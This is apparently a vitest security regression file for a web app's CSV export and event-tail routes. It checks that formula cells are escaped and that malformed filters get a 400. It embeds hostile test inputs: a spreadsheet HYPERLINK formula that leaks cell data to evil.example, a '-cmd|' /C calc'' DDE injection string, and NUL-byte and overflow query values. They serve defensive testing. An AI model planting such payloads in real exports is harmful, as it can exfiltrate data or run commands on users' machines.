import { randomUUID } from "node:crypto";

import { afterAll, beforeAll, describe, expect, it } from "vitest";

import { GET as exportAudit } from "@/app/api/audit/export/route";
import { GET as exportEvents } from "@/app/api/events/export/route";
import { GET as tail } from "@/app/api/events/tail/route";
import { getDb } from "@/lib/db";
import { ingestEvents } from "@/lib/events/ingest";
import { pointAppAtInvestSuite } from "@/scripts/test-support/investsuite-app-client";
import { signInAs } from "@/scripts/test-support/auth";
import { startContractSandbox, type ContractSandbox } from "@/sandbox/investsuite/contract/test-sandbox";

type Handler = (request: Request, context: unknown) => Promise<Response>;
const get = (handler: Handler, path: string) => handler(new Request(`http://localhost${path}`), {});
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
const ESCAPED = `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`;

/** Values of issue #20 finding 9 that made these routes answer 500 or drop the connection. */
const BAD_FILTERS = [
  "actor=a%00b",
  "action=%00",
  "from=0000-01-01",
  "to=275760-09-13",
  `from=${"9".repeat(100_000)}`,
  "before=99999999999999999999",
];

describe("audit export (findings 9, 12)", () => {
  it("escapes formula cells", async () => {
    const marker = randomUUID();
    await getDb().auditEntry.create({ data: { action: FORMULA, targetId: `@${marker}`, outcome: "SUCCESS" } });
    await signInAs("ADMIN");
    const response = await get(exportAudit as Handler, `/api/audit/export?target=${encodeURIComponent(`@${marker}`)}`);
    expect(response.status).toBe(200);
    const csv = await response.text();
    expect(csv).toContain(ESCAPED);
    expect(csv).toContain(`'@${marker}`);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });

  it("refuses hostile filters with 400 and a message", async () => {
    await signInAs("ADMIN");
    // A percent-encoded lone surrogate decodes to U+FFFD (URLs carry UTF-8): harmless, so searched for.
    expect((await get(exportAudit as Handler, "/api/audit/export?target=%ED%A0%80")).status).toBe(200);
    for (const query of BAD_FILTERS) {
      const response = await get(exportAudit as Handler, `/api/audit/export?${query}`);
      expect(response.status, query.slice(0, 40)).toBe(400);
      expect(((await response.json()) as { error: { message: string } }).error.message).not.toMatch(/prisma|postgres|invalid byte/i);
    }
  });
});

describe("events export and tail (findings 9, 12)", () => {
  it("escapes formula cells in CSV", async () => {
    const type = `${FORMULA}-${randomUUID()}`;
    await ingestEvents(getDb(), { provider: "WISEALPHA", transport: "WEBHOOK", signature: "VALID" }, [
      { providerEventId: `+${randomUUID()}`, type, providerCreatedAt: null, refs: { customerRef: "-cmd|' /C calc'!A0" }, rawPayload: "{}" },
    ]);
    await signInAs("COMPLIANCE");
    const csv = await (await get(exportEvents as Handler, `/api/events/export?format=csv&type=${encodeURIComponent(type)}`)).text();
    expect(csv.split("\n")).toHaveLength(3);
    expect(csv).toContain(`"'=HYPERLINK(`);
    expect(csv).toContain(",'+");
    expect(csv).toContain(`,'-cmd|' /C calc'!A0,`);
  });

  it("refuses hostile filters and cursors with 400", async () => {
    await signInAs("COMPLIANCE");
    const eventFilters = ["type=a%00b", "entity=%00", "q=x%00", "from=0000-01-01", "to=275760-09-13", `from=${"9".repeat(100_000)}`];
    for (const query of eventFilters) {
      expect((await get(exportEvents as Handler, `/api/events/export?${query}`)).status, query.slice(0, 40)).toBe(400);
      expect((await get(tail as Handler, `/api/events/tail?${query}`)).status, query.slice(0, 40)).toBe(400);
    }
    expect((await get(tail as Handler, "/api/events/tail?after=99999999999999999999")).status).toBe(400);
    expect((await get(tail as Handler, "/api/events/tail?after=9223372036854775807")).status).toBe(200);
  });
});

describe("portfolio export (finding 12)", () => {
  let sandbox: ContractSandbox;
  const realFetch = globalThis.fetch;

  beforeAll(async () => {
    sandbox = await startContractSandbox({ SANDBOX_IS_PORTFOLIOS: "20" });
    pointAppAtInvestSuite(sandbox);
    // InvestSuite answers as usual, except that the first portfolio carries the finding's name.
    globalThis.fetch = async (input, init) => {
      const response = await realFetch(input, init);
      const url = String(input instanceof Request ? input.url : input);
      if (!/\/portfolios\/?\?/.test(url) || !response.ok) return response;
      const page = (await response.json()) as { results: { name: string }[] };
      if (page.results[0]) page.results[0].name = FORMULA;
      return Response.json(page, { status: response.status, headers: response.headers });
    };
  });
  afterAll(async () => {
    globalThis.fetch = realFetch;
    await sandbox?.close();
  });

  it("escapes a portfolio named =HYPERLINK(…)", async () => {
    const { GET } = (await import("@/app/api/portfolios/export/route")) as { GET: Handler };
    await signInAs("STAFF");
    const response = await get(GET, "/api/portfolios/export?q=&sort=");
    expect(response.status).toBe(200);
    const csv = await response.text();
    expect(csv).toContain(ESCAPED);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });

  it("refuses a query with NUL before calling InvestSuite", async () => {
    const { GET } = (await import("@/app/api/portfolios/export/route")) as { GET: Handler };
    await signInAs("STAFF");
    expect((await get(GET, "/api/portfolios/export?q=name%20eq%20%22a%00%22")).status).toBe(400);
  });
});
